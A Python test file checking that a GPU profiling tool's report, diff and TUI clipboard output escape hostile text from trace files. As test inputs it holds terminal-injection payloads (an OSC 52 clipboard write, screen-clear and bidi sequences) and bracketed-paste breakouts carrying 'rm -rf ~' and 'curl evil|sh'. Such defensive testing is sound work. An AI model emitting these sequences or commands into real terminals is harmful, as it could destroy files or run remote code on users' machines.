"""Issue 38, item 1: one printable path for every string that reaches a terminal. Text from a
rooftop Parquet (its `phase` and `category` columns, every text column) and from its stored summary
(phase, bound, category, peaks source, gap phase...) is shown literally by `report`, `report
--peaks`, `report --json` and `diff`; the TUI's copy key puts one literal line on the clipboard."""
from __future__ import annotations

import json
import math

import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rooftop.present.render import model_lines, render_report
from rooftop.present.text import clipboard_text, has_unsafe, printable, printable_lines

from bad_inputs.corpus import _meta, _row
from bad_inputs.harness import control_chars, run_in_process

# What a hostile writer puts in text: an OSC 52 clipboard write, a screen clear, BEL, C1 CSI (0x9b),
# a bracketed-paste terminator, bidi overrides and isolates, zero-width characters, Rich markup.
OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"
HOSTILE = [OSC52, "\x1b[2J\x1b[H", "\x07", "\x9b31m", "\x1b[201~rm -rf ~\n", "\u202egnp.exe", "\u2066x\u2069",
           "a\u200bb", "[bold red]x[/]", "\x85next", "\u2028line", "\ud800"]

hostile_text = st.one_of(st.sampled_from(HOSTILE), st.text(
    alphabet=st.sampled_from(["\x1b", "\x07", "\x9b", "\x9d", "\x90", "\n", "\r", "\u202e", "\u2067", "\u200f",
                              "\ufeff", "[", "]", "a", "/", ";", "~"]), min_size=1, max_size=12))


def _clean(text: str) -> None:
    bad = [line for line in text.splitlines() if has_unsafe(line)]
    assert not bad, bad[:3]
    assert not control_chars(text), control_chars(text)


def test_printable_lines_keeps_breaks_and_escapes_the_rest():
    assert printable_lines("a\nb") == "a\nb"
    assert printable_lines(f"x{OSC52}\ny\u202e") == "x\\x1b]52;c;ZWNobyBwd25lZA==\\x07\ny\\u202e"
    assert printable_lines(printable_lines("\x1b\n\x9b")) == printable_lines("\x1b\n\x9b")  # idempotent


@pytest.mark.parametrize("name", HOSTILE + ["multi\nline\r\nname", "\x1b[201~\x1b[200~echo hi"])
def test_clipboard_is_one_literal_line(name):
    text = clipboard_text(name)
    assert "\n" not in text and "\r" not in text and "\x1b" not in text
    assert not has_unsafe(text) and not control_chars(text)
    assert clipboard_text(None) == ""


def test_tui_copy_puts_one_clean_line_on_the_clipboard():
    from tui.screens.name import copy_name

    class App:
        copied = None

        def copy_to_clipboard(self, text):
            self.copied = text

        def notify(self, *a, **k):
            pass
    app = App()
    copy_name(app, "gemm\n\x1b[201~curl evil|sh\n")
    assert "\n" not in app.copied and "\x1b" not in app.copied
    assert "curl evil|sh" in app.copied  # shown, literally


# --- the renderer: every string of a report document ------------------------------------------

def _document(tmp_path_factory) -> dict:
    from rooftop.analysis import analyze
    from rooftop.present.report import report_dict
    from rooftop.trace import encode_meta, load_trace, to_table

    rows = [_row(i, path=f"{'decode' if i % 2 else 'prefill'}/step={i}/layer=0/attn") for i in range(12)]
    t = to_table(rows).replace_schema_metadata({b"rooftop": encode_meta(_meta())})
    p = tmp_path_factory.mktemp("doc") / "t.parquet"
    pq.write_table(t, p)
    return json.loads(json.dumps(report_dict(analyze(load_trace(p))), default=str))


@pytest.fixture(scope="module")
def document(tmp_path_factory):
    return _document(tmp_path_factory)


def _poison(obj, bad: str):
    """Every string value of the document (not its keys) with `bad` in front; every null that a
    text field may hold becomes `bad` too, where the field is one the renderer prints as text."""
    if isinstance(obj, dict):
        return {k: _poison(v, bad) for k, v in obj.items()}
    if isinstance(obj, list):
        return [_poison(v, bad) for v in obj]
    if isinstance(obj, str):
        return bad + obj
    return obj


TEXT_FIELDS = ("phase", "category", "bound", "bytes_source", "basis", "key", "short_name", "peaks_source",
               "peaks_reason", "matched", "dtype", "status")


def _with_text_fields(doc: dict, bad: str) -> dict:
    """Fill the text fields the renderer shows (phase, bound, category, peaks source, gap phase...)
    with `bad`, wherever the document has them, even where they were null."""
    def walk(o):
        if isinstance(o, dict):
            return {k: (bad if k in TEXT_FIELDS else walk(v)) for k, v in o.items()}
        if isinstance(o, list):
            return [walk(v) for v in o]
        return o
    out = walk(doc)
    out["device"]["matched_by"] = [bad]
    out["device"]["peaks_differ"] = [{"what": bad, "ncu": 1.0, "datasheet": 2.0, "ratio": 0.5}]
    out["device"]["peak_bw"] = out["device"].get("peak_bw") or 3e12
    out["device"]["peak_flops"] = out["device"].get("peak_flops") or 1e15
    out["device"]["inferred"] = True
    out["gap"] = out.get("gap") or [{"phase": bad, "basis": bad}]
    out["ranks"] = None
    out["warnings"] = [bad]
    out["model"] = {"name": bad, "source": bad, "kv_dtype": bad, "experts": bad, "experts_per_tok": bad,
                    "weights": {"base": bad, "quantized": bad, "quantized_bits": 4}, "tp": 1, "ep": 1}
    return out


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(bad=hostile_text)
def test_every_document_string_is_rendered_printable(document, bad):
    for doc in (_poison(document, bad), _with_text_fields(document, bad)):
        text = render_report(doc)  # the renderer alone: every cell printable, before the last step
        _clean(text)
        _clean("\n".join(model_lines(doc)))


# --- the commands: rows and summaries of a rooftop Parquet -------------------------------------

def _hostile_parquet(tmp_path, bad: str, summarized: bool):
    from rooftop.present.summary import write_summarized
    from rooftop.trace import encode_meta, to_table

    rows = [_row(i, name=f"k{bad}{i % 3}", path=f"decode/step={i}/layer=0", phase=f"decode{bad}",
                 category=f"gemm{bad}", op=bad) for i in range(9)]
    meta = _meta(device={"name": f"NVIDIA H100 80GB HBM3{bad}"}, model={"name": bad}, warnings=[bad])
    p = tmp_path / f"h{'s' if summarized else ''}.parquet"
    if summarized:
        write_summarized(p, rows, meta)
    else:
        pq.write_table(to_table(rows).replace_schema_metadata({b"rooftop": encode_meta(meta)}), p)
    return p


@pytest.mark.parametrize("bad", [OSC52, "\x9b2J\x85\u202e[red]x[/]", "\x1b[201~\nrm\r"])
@pytest.mark.parametrize("summarized", [False, True])
def test_every_text_command_shows_rows_and_summary_literally(tmp_path, bad, summarized):
    p = _hostile_parquet(tmp_path, bad, summarized)
    for argv in (["report", str(p)], ["report", str(p), "--peaks", "3.35,989"], ["report", str(p), "--json"],
                 ["report", str(p), "--top", "3"], ["diff", str(p), str(p)], ["diff", str(p), str(p), "--json"]):
        o = run_in_process(argv)
        assert o.rc == 0, (argv, o.err)
        _clean(o.out)
        _clean(o.err)
    assert "\\x1b" in run_in_process(["report", str(p)]).out or "\\x9b" in run_in_process(["report", str(p)]).out


def test_printable_of_nan_and_none():
    assert printable(None) == "—" and printable(math.nan) == "—"
